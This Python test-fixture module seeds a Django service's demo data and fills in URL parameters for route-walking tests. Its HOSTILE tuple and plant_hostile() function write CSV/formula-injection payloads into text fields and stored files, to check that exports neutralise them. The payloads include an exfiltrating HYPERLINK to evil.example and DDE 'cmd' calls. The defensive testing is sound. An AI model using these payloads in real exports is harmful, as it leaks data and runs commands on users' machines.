"""A whole service's worth of records for tests that walk every URL: the demo people (one per
role) and every app's demo records, as `alliance demo` makes them, plus a status letter and an
accepted return's findings workbook (built as the task worker builds it).

`plant_hostile()` then rewrites every free-text value a person could have typed (a young
person's name, a business name, a service name, a budget line, a username typed at sign-in),
and every text column of the stored returns (child ids, URNs, category codes), to begin with a
spreadsheet formula, for the test that every export neutralises them.

`kwargs_for(route)` gives real values for a route's parameters."""

from __future__ import annotations

import datetime as dt
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
from django.apps import apps
from django.core.management import call_command
from django.db import models

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Help")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# apps whose records people type into the service
TYPED_APPS = ("workplace", "edgeofcare", "programme")


def build(settings: Any, tmp_path: Path) -> None:
    # the returns' folders are the test's own already (tests/alliance/conftest.py)
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "media")},
        },
    }
    with open(os.devnull, "w") as quiet:
        call_command("load_demo", stdout=quiet)
    from alliance.workplace import leaving_care as workplace
    from alliance.workplace.models import YoungPerson

    person = YoungPerson.objects.order_by("pk").first()
    assert person is not None
    adviser = apps.get_model("accounts", "User").objects.get(username="adviser@south-tyneside.demo")
    workplace.issue_status_letter(person, "To whom it may concern", adviser)
    from django.core.files.base import ContentFile

    from alliance.programme.models import PracticeItem

    practice = PracticeItem.objects.order_by("pk").first()
    assert practice is not None
    practice.attachment.save("practice-note.txt", ContentFile(b"What worked, in brief."))
    # a lead's proposal waiting for the DfE (the demo makes matches, not proposals)
    from alliance.programme.models import Match, MatchProposal

    match = Match.objects.order_by("pk").first()
    assert match is not None
    MatchProposal.objects.create(
        programme_id=match.programme_id,
        partner_id=match.partner_id,
        council_id=match.council_id,
        need_score=1.0,
        as_at=match.programme.starts_on
        if hasattr(match.programme, "starts_on")
        else dt.date.today(),
    )


def prepare_workbooks() -> None:
    """Each accepted upload's findings workbook, as the task worker builds it after the checks."""
    from alliance.returns.models import Upload
    from alliance.returns.services import findings_workbook

    for pk in Upload.objects.filter(status=Upload.Status.ACCEPTED).values_list("pk", flat=True):
        findings_workbook.prepare_excel_report(pk)


def _typed_text_fields(model: type[models.Model]) -> list[models.Field[Any, Any]]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not isinstance(f, models.SlugField | models.EmailField | models.URLField)
        and not f.choices
        and not f.unique
        and f.name not in ("password", "reference", "postcode", "phone", "telephone")
    ]


def plant_hostile() -> int:
    """Every free-text value begins with a formula; returns how many fields were planted."""
    from alliance.audit.models import AuditEvent
    from alliance.organisations.models import Council, Organisation, Region

    planted = 0
    targets: list[type[models.Model]] = [Organisation, Council, Region]
    for label in TYPED_APPS:
        targets += list(apps.get_app_config(label).get_models())
    for model in targets:
        for field in _typed_text_fields(model):
            hostile = HOSTILE[planted % len(HOSTILE)]
            rows = list(model._default_manager.exclude(**{field.name: ""}).only("pk", field.name))
            for row in rows:
                text = hostile + " " + str(getattr(row, field.name))
                setattr(row, field.name, text[: field.max_length] if field.max_length else text)
            model._default_manager.bulk_update(rows, [field.name], batch_size=500)
            planted += 1
    # a username typed at sign-in, and the rest of an audit row, as an attacker would shape them
    for i, hostile in enumerate(HOSTILE):
        AuditEvent.objects.create(
            username=hostile,
            action=AuditEvent.Action.SIGN_IN_FAILED,
            object_type=hostile,
            object_id=hostile[:64],
            object_repr=hostile,
            ip_address=None,
            user_agent=hostile,
            method="POST",
            path=f"/sign-in/?next={hostile}"[:500],
            detail={"attempt": i},
        )
    planted += _plant_in_stored_returns()
    return planted


def _plant_in_stored_returns() -> int:
    """Every text column of every stored table and findings file (child ids, URNs, CIN codes,
    ...), and the category codes behind the aggregates, begin with a formula."""
    from django.conf import settings

    from alliance.returns.models import Upload

    planted = 0
    for path in sorted(Path(settings.VAR_DIR).rglob("*.parquet")):
        frame = pl.read_parquet(path)
        text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
        if not text:
            continue
        frame.with_columns(
            (pl.lit(HOSTILE[i % len(HOSTILE)]) + pl.col(name)).alias(name)
            for i, name in enumerate(text)
        ).write_parquet(path)
        planted += len(text)
    for upload in Upload.objects.filter(status=Upload.Status.ACCEPTED):
        for item in upload.indicators:
            label = item["indicator"]
            if ": " in label:
                head, _, code = label.partition(": ")
                item["indicator"] = f"{head}: {HOSTILE[0]}{code}"
        upload.save(update_fields=["indicators"])
        planted += 1
    return planted


def _first(label: str, **filters: Any) -> Any:
    found = apps.get_model(label).objects.filter(**filters).order_by("pk").first()
    assert found is not None, f"the demo data has no {label} {filters}"
    return found


def _upload(route: str) -> dict[str, Any]:
    upload = _first("returns.Upload", status="accepted", kind="ssda903")
    k: dict[str, Any] = {"pk": upload.pk}
    if "<str:code>" in route:
        k["code"] = upload.summary["counts"][0]["rule_code"]
    return k


def _pooled(route: str) -> dict[str, Any]:
    from alliance.returns.services import uploading

    return {
        "alliance_id": _first("organisations.Organisation", slug="tyneside-alliance").pk,
        "kind": "ssda903",
        "year": uploading.collection_years("ssda903")[-1],
        "table": "Header",
    }


def _setup(route: str) -> dict[str, Any]:
    match = _first("programme.Match")
    return {
        "pk": match.programme_id,
        "partner_pk": _first("programme.Partner", programme=match.programme_id).pk,
        "dfe_code": match.council.dfe_code,
        "match_pk": match.pk,
        "proposal_pk": _first("programme.MatchProposal").pk,
    }


def _engagement(route: str) -> dict[str, Any]:
    engagement = _first("programme.Engagement", status="active")
    k = {"pk": engagement.pk}
    if "<int:milestone_pk>" in route:
        k["milestone_pk"] = _first("programme.Milestone", engagement=engagement).pk
    if "<int:review_pk>" in route:
        k["review_pk"] = _first("programme.QuarterlyReview", engagement=engagement).pk
    return k


def _young_person(route: str) -> dict[str, Any]:
    k = {"pk": _first("workplace.YoungPerson").pk}
    if "<int:opportunity_pk>" in route:
        k["opportunity_pk"] = _first("workplace.Opportunity", closed_early_on__isnull=True).pk
    return k


def _password_link(route: str) -> dict[str, Any]:
    from django.contrib.auth.tokens import default_token_generator
    from django.utils.encoding import force_bytes
    from django.utils.http import urlsafe_base64_encode

    employer = _first("accounts.User", memberships__organisation__kind="employer")
    return {
        "uidb64": urlsafe_base64_encode(force_bytes(employer.pk)),
        "token": default_token_generator.make_token(employer),
    }


def _person(route: str) -> dict[str, Any]:
    person = _first("accounts.User", username="analyst@north-tyneside.demo")
    return {"pk": person.pk, "membership_pk": person.memberships.order_by("pk").first().pk}


def _people_link(route: str) -> dict[str, Any]:
    from django.utils.encoding import force_bytes
    from django.utils.http import urlsafe_base64_encode

    from alliance.accounts.people import links

    person = _first("accounts.User", username="analyst@north-tyneside.demo")
    tokens = links.INVITATION if route.startswith("invitation/") else links.RESET
    return {
        "uidb64": urlsafe_base64_encode(force_bytes(person.pk)),
        "token": tokens.make_token(person),
    }


def _family(route: str) -> dict[str, Any]:
    referral = _first("edgeofcare.Referral", allocations__isnull=False, goals__isnull=False)
    return {
        "pk": referral.pk,
        "allocation_pk": referral.allocations.order_by("pk").first().pk,
        "goal_pk": referral.goals.order_by("pk").first().pk,
        "child_pk": referral.children.order_by("pk").first().pk,
    }


def _employer_stages() -> list[str]:
    from alliance.workplace.pipeline import EMPLOYER_STAGES

    return list(EMPLOYER_STAGES)


def _pk(label: str, **filters: Any) -> Any:
    return lambda route: {"pk": _first(label, **filters).pk}


# the demo's alliance lead works for the Tyneside Alliance: its records are the ones they change
TYNESIDE = {"partner__alliance__slug": "tyneside-alliance"}

# route prefix -> its parameters' values (the first prefix that matches wins)
PARAMETERS: list[tuple[str, Any]] = [
    ("people/", _person),
    (
        "organisations/",
        lambda route: {
            "pk": _first("organisations.Organisation", slug="tyneside-alliance").pk,
            "member_pk": _first(
                "organisations.AllianceMember", alliance__slug="tyneside-alliance"
            ).pk,
            # the demo records no dated memberships; ending one is a POST (a GET is refused)
            "membership_pk": 1,
        },
    ),
    ("invitation/", _people_link),
    # the demo issues no API tokens; revoking one is a POST (a GET is refused)
    ("api-tokens/", lambda route: {"pk": 1}),
    ("sign-in/new-password/", _people_link),
    ("returns/uploads/", _upload),
    ("returns/agreements/", _pk("returns.DataSharingAgreement")),
    ("returns/pooled/", _pooled),
    ("national-picture/councils/", lambda route: {"dfe_code": "392"}),
    ("programme/setup/", _setup),
    ("programme/matches/", lambda route: {"match_pk": _first("programme.Match", **TYNESIDE).pk}),
    ("programme/engagements/", _engagement),
    ("programme/money/lines/", _pk("programme.BudgetLine", **TYNESIDE)),
    (
        "programme/money/spend/",
        _pk(
            "programme.SpendEntry",
            reverses__isnull=True,
            budget_line__partner__alliance__slug="tyneside-alliance",
        ),
    ),
    (
        "programme/money/",
        lambda route: {"partner_pk": _first("programme.BudgetLine", **TYNESIDE).partner_id},
    ),
    (
        "programme/records/",
        lambda route: {
            "kind": "milestones",
            "pk": _first("programme.Milestone", engagement__alliance__slug="tyneside-alliance").pk,
        },
    ),
    ("programme/practice/", _pk("programme.PracticeItem")),
    ("programme/spend-reports/", _pk("programme.SpendReport", **TYNESIDE)),
    ("workplace/young-people/", _young_person),
    ("workplace/appointments/", _pk("workplace.Appointment")),
    ("workplace/goals/", _pk("workplace.Goal")),
    ("workplace/referrals/", _pk("workplace.Referral")),
    (
        "workplace/employer/applicants/",
        _pk(
            "workplace.Referral",
            young_person__consent_to_share=True,
            stage__in=_employer_stages(),
            opportunity__employer__memberships__isnull=False,
        ),
    ),
    ("workplace/letters/", _pk("workplace.StatusLetter")),
    ("workplace/opportunities/", _pk("workplace.Opportunity")),
    ("workplace/employer/opportunities/", _pk("workplace.Opportunity")),
    ("workplace/me/opportunities/", _pk("workplace.Opportunity")),
    ("workplace/employers/", _pk("workplace.EmployerProfile")),
    ("workplace/group-sessions/", _pk("workplace.GroupSession")),
    ("workplace/register/password/", _password_link),
    ("workplace/register/", lambda route: {"step": "business"}),
    ("edge-of-care/referrals/", _family),
    ("edge-of-care/services/", lambda route: {"service_pk": _first("edgeofcare.Service").pk}),
    # the demo's saved scenarios: North Tyneside's, and the Tyneside Alliance's for its pooled one
    (
        "forecast/council/<str:dfe_code>/scenarios/<int:pk>",
        lambda route: {
            "dfe_code": "392",
            **_pk("forecasts.SavedScenario", organisation__slug="north-tyneside")(route),
        },
    ),
    (
        "forecast/alliance/<slug:slug>/scenarios/<int:pk>",
        lambda route: {
            "slug": "tyneside-alliance",
            **_pk("forecasts.SavedScenario", organisation__slug="tyneside-alliance")(route),
        },
    ),
    # North Tyneside has the demo's years of returns; the Tyneside Alliance pools them
    ("forecast/", lambda route: {"dfe_code": "392", "slug": "tyneside-alliance"}),
]


def kwargs_for(route: str) -> dict[str, Any]:
    """Values for the route's parameters, from the demo records."""
    if "<" not in route:
        return {}
    for prefix, values in PARAMETERS:
        if route.startswith(prefix):
            return dict(values(route))
    return {}


def routes() -> list[tuple[str, Any]]:
    """Every (route, view) in the URL conf, as tests/alliance/test_every_view_is_guarded.py
    walks them."""
    from django.urls import URLPattern, URLResolver, get_resolver

    def walk(patterns: list[Any], prefix: str = "") -> list[tuple[str, Any]]:
        found = []
        for p in patterns:
            if isinstance(p, URLResolver):
                found += walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                found.append((prefix + str(p.pattern), p.callback))
        return found

    return walk(get_resolver().url_patterns)


def url_of(route: str) -> str:
    """The route with its parameters filled in from the demo records."""
    import re

    values = kwargs_for(route)
    return "/" + re.sub(r"<(?:\w+:)?(\w+)>", lambda m: str(values[m.group(1)]), route)


def people_who_may(view: Any) -> list[Any]:
    """Everyone whose role lets them reach the view (a public or signed-in view: one person,
    as anyone sees the same)."""
    from alliance.access.policy import can

    access = getattr(view, "_alliance_access", None)
    users = list(apps.get_model("accounts", "User").objects.order_by("pk"))
    if not isinstance(access, tuple):
        return users[:1]
    area, action = access
    return [u for u in users if can(u, area, action)]


def query_for(route: str) -> str:
    """A query string some pages need to show anything (the year the demo returns are for)."""
    from alliance.returns.models import Upload

    if route in ("returns/aggregates/", "returns/aggregates.csv", "returns/pooled/"):
        year = Upload.objects.filter(kind="ssda903", status="accepted").order_by("-year").first()
        return f"?kind=ssda903&year={year.year if year else ''}"
    return ""


def answers(client: Any, route: str, view: Any, query: str = "") -> Iterator[tuple[Any, Any]]:
    """GET the route (with `query` added to the one it needs) as each person who may, in turn:
    yields (response, user). A streamed response is read to its end before the next."""
    extra = query_for(route)
    if query:
        extra = (extra + "&" + query.lstrip("?")) if extra else query
    url = url_of(route) + extra
    from tests import two_step

    for who in people_who_may(view):
        # as after entering a security code: some pages (people, organisations) need one
        two_step.force_verified_login(client, who)
        response = client.get(url)
        if response.streaming:
            # read to the end now (the test client then closes any file), kept for the caller
            response.streaming_content = [b"".join(response.streaming_content)]
        yield response, who


def get_as_someone(client: Any, route: str, view: Any, query: str = "") -> tuple[Any, Any]:
    """GET the route as the first person who may and gets a page (200), or the last answer.
    Returns (response, user)."""
    response, who = None, None
    for response, who in answers(client, route, view, query):  # noqa: B007 (returned)
        if response.status_code == 200:
            break
    return response, who
